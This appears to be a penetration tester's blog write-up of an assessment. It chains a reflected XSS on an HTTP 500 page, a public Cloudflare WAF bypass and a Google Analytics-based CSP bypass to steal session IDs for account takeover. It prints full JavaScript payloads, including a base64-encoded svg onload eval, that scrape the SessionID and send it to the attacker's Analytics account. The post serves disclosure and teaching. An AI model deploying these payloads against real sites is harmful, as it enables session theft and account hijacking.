Our Blog

From 500 to Account Takeover

Reading time ~10 min


What seemed like a regular Cross-site Scripting (XSS) vulnerability on an HTTP 500 “Internal Server Error”-page, I managed to turn into a one-click account takeover on an assessment. In this blog post I want to describe the path I took to achieve this leveraging a known Cloudflare WAF bypass and Google analytics to extract session tokens serving as a CSP bypass.At the beginning of the assessment, it quickly came to my attention that the web application stored the Session ID as part of some kind of error reporting JavaScript function in a message variable. This function would be executed if window.error was triggered:

So I went looking for a way to extract this data. And what’s better than a possible, theoretical Person in the Middle for doing the job? XSS of course!

Somewhere during the assessment, my colleague Koen Claes (@KoenClaes_) came up with this interesting XSS vector that could be found on a 500 “Internal Server Error”-page. Note the EndUserVisibleHtmlMessage parameter in the URL:


That doesn’t sound very safe, does it? In fact, almost too easy to exploit. But, there’s a catch! There were 2 protections that blocked us from achieving a successful XSS attack using that parameter, so we needed a plan of attack:

  • Pwn Cloudflare’s “military-grade AI-boosted” Web Application Firewall (WAF)
  • Trick our good old friend, mr. CSP

Since Cloudflare is in front of the application it meant that a simple <script>alert(1)</script>-payload won’t pop.

DNS Override

Our first thought was to try a commonly used method to bypass a WAF client-side: DNS Override. Assuming we can discover the origin server behind Cloudflare (and it allows connections from the general internet), we can bypass the WAF by directly connecting to it.There are many publicly known ways of discovering the origin server for a web service protected using a cloud-based WAF (and by extension the Cloudflare WAF itself). For example:

  • Searching the domain name of the website on a service like Censys which would reveal information such as which servers are using the same TLS certificate
  • Leaking the address by searching for the same favico hash on Shodan (implemented in https://github.com/pielco11/fav-up)
  • Searching through historical DNS data.

Once you know the origin server IP, Burp Suite allows to quickly set up your own DNS records under "Project Options" -> "Hostname Resolution".After enabling the Hostname Resolution with the correct IP address of the origin server we discovered, Koen confirmed what he thought, XSS indeed. The well-known alert(1) executed immediately.

But you are probably wondering, “this is not always a viable way of bypassing Cloudflare when targetting a victim”. And you are right, especially when you don’t have access to your victim’s infrastructure or computer. As this wasn’t really an option to continue our attack chain we instead focussed on bypassing Cloudflare on an application level.

Cloudflare Signature-Based Bypass

Cloudflare does a lot of really cool things and I’d encourage you to check out their blog! Unfortunately though, some publicly known WAF bypasses seem to go unnoticed / unfixed. I searched for one to use in our case and found one which was reported back in June 2019 and still works as of February 2021.That tweet was literally the first Cloudflare bypass I found on Google… And it just popped.


I found it a bit strange that their WAF didn’t block if there was an eval string within the URL, as long as the first bracket ( was replaced by %26%230000000040.

Anyways, with the first pesky thing is out of the way:

  • Pwn Cloudflare’s “military-grade AI-boosted”WAF

Next checkbox please!

  • Trick our good old friend, mr. CSP

CSP Bypass

The web application had the following Content Security Policy(CSP) in place:

Content-Security-Policy: default-src 'self'; script-src 'self' 'unsafe-inline' 'unsafe-eval' https://ssl.google-analytics.com https://maps.googleapis.com https://webapp.example.eu https://connect.facebook.net https://themes.example.eu; img-src 'self' https://ssl.google-analytics.com https://s-static.ak.facebook.com https://webapp.example.eu https://themes.example.eu http://images-awstest.example.com; style-src 'self' 'unsafe-inline' https://fonts.googleapis.com https://webapp.example.eu https://themes.example.eu; font-src 'self' https://themes.googleusercontent.com; frame-src https://webapp.example.eu https://www.facebook.com https://s-static.ak.facebook.com; object-src 'none'

With closer inspection of the CSP, we can see that it allows scripts to run coming from the domain itself due to script-src 'self' 'unsafe-inline' 'unsafe-eval'.

So I thought, maybe a quick fetch() with a Burp Collaborator URL would be sufficient, but no… We get an error showing that connect-src does not allow the fetch() function to do external HTTP calls to non-declared domains. Only the origin domain is valid.

Although there is no connect-src written in the CSP,default-src 'self' prohibits any non-declared directives from being “maliciously” executed. Well, what IS allowed then?

img-src https://ssl.google-analytics.com

Maybe for some of you this rings a bell. Extraction via Google Analytics! But how?

Google Analytics

Like Facebook, Google Analytics provides tracking capabilities via a tracking pixel.Normally, the tracking pixel does some logging / fingerprinting, but in this case we can actively abuse it as a data extraction channel.

By digging deeper in the Google Analytics docs, there is an interesting collect URL that can be built. This URL that has a specific parameter which allows an arbitrary string to be included. This parameter is called ea.

To be able to successfully add analytics using a tracking pixel, there were 3 mandatory parameters that were needed:

  • tid, which is the Google Analytics PoC account ID we set up to execute our attack
  • cid, which is a random number assigned to differentiate browsers / users aka fingerprinting
  • ea, which can have any arbitrary assigned to it

So, a quick example would be:


With that URL in mind, it is safe to say that we can bypass the CSP policy too, completing our last goal for an attack.• Trick our good old friend, mr. CSP

Gluing all the pieces together

We have all 4 pieces that were needed for achieving a successful attack chain. To recap, those were:

  • The SessionID accessible in JavaScript function
  • A Cloudflare bypass
  • A CSP bypass
  • A Google Analytics collect URL

Let’s string them together and steal some session id’s!

Carving the SessionID value with JavaScript

As described in the introduction, the application displayed the user’s session cookie in an error messaging function. What better way than a good old regex to extract the value we want?

I quickly went to regex101.com and built a regex thatextracted that specific field and its corresponding value, a 24-character alphanumeric session ID, as shown below.

And the actual regex:

/(?:SessionID: (?:[a-zA-Z0-9-_]{24}))/gm

Writing the payload code

Since we want to append the GoogleAnalytics Pixel to our webpage, we are going to have to define a new variable. Let’s call it gaimage:

var gaimage = document.createElement("img");

Next, we declare our regex variable:

var regex = /(?:SessionID: (?:[a-zA-Z0-9-_]{24}))/gm;

The next step was a bit more complex.

The application returned that error JavaScript function everywhere in the application that returned a 200 OK, but since the XSS entry point was found on an HTTP 500 “Internal Server Error”-page, we had to make use of Cross-Site Request Forgery. Basically making a request to a page that would include the session ID in the response for extraction.

Forour payload, the below JavaScript does the following:

  • Fetches the page content of a page that returned 200 OK, for PoC purposes it was a random page URL named: /Search/Criteria
  • Assigns our Google Analytics collect URL as source to the img attribute
  • cid gets randomly generated by a Math.random() function
  • And most importantly, the ea parameter is filled with the SessionID value extracted usinga regex
fetch("/Search/Criteria").then(response => response.text()).then(data => gaimage.src = "https://ssl.google-analytics.com/collect?v=1&tid=UA-190183015-1&cid=" + Math.floor(Math.random() * 8999999999 + 1000000000) + "&t=event&ec=email&ea=" + encodeURIComponent(data.match(regex)));

Finally this code is wrapped up by appending the actual gaimage to the HTML DOM itself:


The malicious img element that our JavaScript generates, looks as following:

<img src="https://ssl.google-analytics.com/collect?v=1&tid=UA-190183015-1&cid=8664644683&t=event&ec=email&ea=SessionID%3A%20ppqiitmapj45dq1dacmgeo0a">

Building the HTML injection

As a final step in our attack preparation, we need to get everything together as neatly as possible within the EndUserVisibleHtmlMessage parameter where the XSS takes place.

To prevent any encoding issues (or possible detection), I chose to encode the JavaScript payload using base64 and then URL encoding. That meant that this piece of code:

var gaimage = document.createElement("img");
var regex = /(?:SessionID: (?:[a-zA-Z0-9-_]{24}))/gm; fetch("/Search/Criteria").then(response => response.text()).then(data => gaimage.src = "https://ssl.google-analytics.com/collect?v=1&tid=UA-190183015-1&cid=" + Math.floor(Math.random() * 8999999999 + 1000000000) + "&t=event&ec=email&ea=" + encodeURIComponent(data.match(regex)));

Turned into this:


That also meant that out payload had to build the HTML payload itself by decoding the encoding steps we have performed:

<svgonload=eval(atob(decodeURIComponent("dmFyIGdhaW1hZ2U9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgiaW1nIik7IHZhciByZWdleCA9IC8oPzpTZXNzaW9uSUQ6ICg/OlthLXpBLVowLTktX117MjR9KSkvZ207IGZldGNoKCIvU2VhcmNoL0NyaXRlcmlhIikudGhlbihyZXNwb25zZSA9PiByZXNwb25zZS50ZXh0KCkpLnRoZW4oZGF0YSA9PiBnYWltYWdlLnNyYz0iaHR0cHM6Ly9zc2wuZ29vZ2xlLWFuYWx5dGljcy5jb20vY29sbGVjdD92PTEmdGlkPVVBLTE5MDE4MzAxNS0xJmNpZD0iK01hdGguZmxvb3IoTWF0aC5yYW5kb20oKSAqIDg5OTk5OTk5OTkgKyAxMDAwMDAwMDAwKSsiJnQ9ZXZlbnQmZWM9ZW1haWwmZWE9IitlbmNvZGVVUklDb21wb25lbnQoZGF0YS5tYXRjaChyZWdleCkpKTsgZG9jdW1lbnQuaGVhZC5hcHBlbmRDaGlsZChnYWltYWdlKTs=")))>

The above HTML won’t work however since it doesn’t have the Cloudflare bypass in place. By applying the Cloudflare bypass I previously mentioned, we come to our final link that we can send to our victim:


Victim’s POV

From the victim browsers point of view, the <img> tag would have been inserted into the DOM as follows.

The HTML injection executed within the browser withouttriggering errors client-side. With the Session ID added to a tracking pixel, the payload was ready to be sent to the attacker via Google Analytics!

Attacker’s POV

In the Google Analytics dashboard as an attacker, we can see the victimsession ID’s being sent as the “Active Users” onour application :)

Chaining these vulnerabilities ultimately resulted in an account takeover by sending 1 link to a victim.


Additional Note: Users that use an adblocker with trackingprevention were not vulnerable to this attack, since the request to Google Analytics is usually blocked by these extensions.